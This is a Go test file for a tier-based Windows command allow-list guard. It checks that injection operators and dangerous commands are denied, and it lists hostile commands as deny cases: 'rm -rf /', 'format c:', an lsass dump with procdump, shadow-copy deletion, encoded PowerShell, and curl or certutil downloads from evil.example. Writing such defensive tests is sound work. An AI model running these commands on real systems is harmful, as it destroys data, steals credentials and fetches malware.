package guard

import (
	"regexp"
	"strings"
	"testing"
)

func newTestCommandGuard() *CommandGuard {
	return NewCommandGuard(nil)
}

func TestIsAllowed_ExactMatch(t *testing.T) {
	g := newTestCommandGuard()
	d := g.IsAllowed("systeminfo", TierBasic)
	if !d.Allowed {
		t.Fatalf("expected allow, got %q", d.Reason)
	}
	if d.Shell != "cmd" || d.RequiresAdmin {
		t.Errorf("unexpected rule fields: %+v", d)
	}
}

func TestIsAllowed_CaseAndSpacingInsensitive(t *testing.T) {
	g := newTestCommandGuard()
	if d := g.IsAllowed("  IPCONFIG   /ALL ", TierBasic); !d.Allowed {
		t.Errorf("expected allow: %q", d.Reason)
	}
}

func TestIsAllowed_InjectionImmunity(t *testing.T) {
	g := newTestCommandGuard()
	operators := []string{"&&", "||", ";", "|", "`", "\n", "$(", ">", "<", "%0a"}
	for _, op := range operators {
		cmd := "systeminfo" + op + "whoami"
		for _, tier := range []Tier{TierBasic, TierSupport} {
			if d := g.IsAllowed(cmd, tier); d.Allowed {
				t.Errorf("tier %s: expected deny for %q", tier, cmd)
			}
		}
	}
}

func TestIsAllowed_DefaultDeny(t *testing.T) {
	g := newTestCommandGuard()
	d := g.IsAllowed("some-never-listed-command", TierSupport)
	if d.Allowed {
		t.Fatal("expected default deny")
	}
	if !strings.Contains(d.Reason, "not in the allowed list") {
		t.Errorf("expected allow-list reason, got %q", d.Reason)
	}
}

func TestIsAllowed_ArgumentValidation(t *testing.T) {
	g := newTestCommandGuard()

	if d := g.IsAllowed("taskkill /PID 4821", TierSupport); !d.Allowed {
		t.Errorf("expected allow: %q", d.Reason)
	}
	// Chaining after a valid prefix is caught by the raw-string pre-pass.
	if d := g.IsAllowed("taskkill /PID ; rm -rf /", TierSupport); d.Allowed {
		t.Error("expected deny for chained taskkill")
	}
	// A bad argument fails with a specific reason, not a generic one.
	d := g.IsAllowed("taskkill /PID abc", TierSupport)
	if d.Allowed {
		t.Fatal("expected deny for non-numeric PID")
	}
	if !strings.Contains(d.Reason, "invalid arguments") {
		t.Errorf("expected invalid-arguments reason, got %q", d.Reason)
	}
}

func TestIsAllowed_ServiceNamePattern(t *testing.T) {
	g := newTestCommandGuard()
	if d := g.IsAllowed("net start spooler", TierSupport); !d.Allowed {
		t.Errorf("expected allow: %q", d.Reason)
	}
	if d := g.IsAllowed("net start ../../evil", TierSupport); d.Allowed {
		t.Error("expected deny for malformed service name")
	}
}

func TestIsAllowed_SupportSupersetOfBasic(t *testing.T) {
	g := newTestCommandGuard()
	for key, rule := range basicCommands {
		if rule.ArgPattern != nil && !rule.ArgPattern.MatchString("") {
			continue // needs arguments; the bare key is not a valid command
		}
		if d := g.IsAllowed(key, TierSupport); !d.Allowed {
			t.Errorf("support tier must allow basic command %q: %q", key, d.Reason)
		}
	}
}

func TestIsAllowed_SupportOnlyCommands(t *testing.T) {
	g := newTestCommandGuard()
	cases := []string{
		"sfc /scannow",
		"dism /online /cleanup-image /restorehealth",
		"ipconfig /flushdns",
		"netsh winsock reset",
		"shutdown /r /t 60",
		"rd /s /q %temp%",
	}
	for _, cmd := range cases {
		if d := g.IsAllowed(cmd, TierSupport); !d.Allowed {
			t.Errorf("support should allow %q: %q", cmd, d.Reason)
		}
		if d := g.IsAllowed(cmd, TierBasic); d.Allowed {
			t.Errorf("basic should deny %q", cmd)
		}
	}
}

func TestIsAllowed_AdminFlagSurfaced(t *testing.T) {
	g := newTestCommandGuard()
	d := g.IsAllowed("sfc /scannow", TierSupport)
	if !d.Allowed || !d.RequiresAdmin {
		t.Errorf("expected allowed admin command, got %+v", d)
	}
}

func TestIsAllowed_HighSeverityBlockedInBothTiers(t *testing.T) {
	g := newTestCommandGuard()
	cases := []string{
		"format c:",
		"bcdedit /set {default} safeboot minimal",
		"reg add hkcu\\software\\evil",
		"procdump -ma lsass.exe out.dmp",
		"psexec \\\\target cmd",
		"vssadmin delete shadows /all",
	}
	for _, cmd := range cases {
		for _, tier := range []Tier{TierBasic, TierSupport} {
			if d := g.IsAllowed(cmd, tier); d.Allowed {
				t.Errorf("tier %s: expected deny for %q", tier, cmd)
			}
		}
	}
}

func TestIsAllowed_BasicDeniesDangerousVerbs(t *testing.T) {
	g := newTestCommandGuard()
	cases := []string{
		"del important.txt",
		"powershell -enc SQBFAFgA",
		"curl http://evil.example/payload",
		"certutil -urlcache -f http://evil.example a.exe",
		"taskkill /im explorer.exe",
	}
	for _, cmd := range cases {
		if d := g.IsAllowed(cmd, TierBasic); d.Allowed {
			t.Errorf("basic should deny %q", cmd)
		}
	}
}

func TestIsAllowed_EmptyCommand(t *testing.T) {
	g := newTestCommandGuard()
	if d := g.IsAllowed("   ", TierSupport); d.Allowed {
		t.Error("expected deny for blank command")
	}
}

func TestNewCommandGuard_ExtraBlocked(t *testing.T) {
	extra := []BlockedPattern{{Pattern: regexp.MustCompile(`(?i)\bnotepad\b`), Description: "overlay test"}}
	g := NewCommandGuard(extra)
	if d := g.IsAllowed("notepad", TierBasic); d.Allowed {
		t.Error("expected overlay pattern to deny")
	}
	// The built-in tables are untouched by overlays.
	if d := g.IsAllowed("systeminfo", TierBasic); !d.Allowed {
		t.Errorf("expected allow: %q", d.Reason)
	}
}
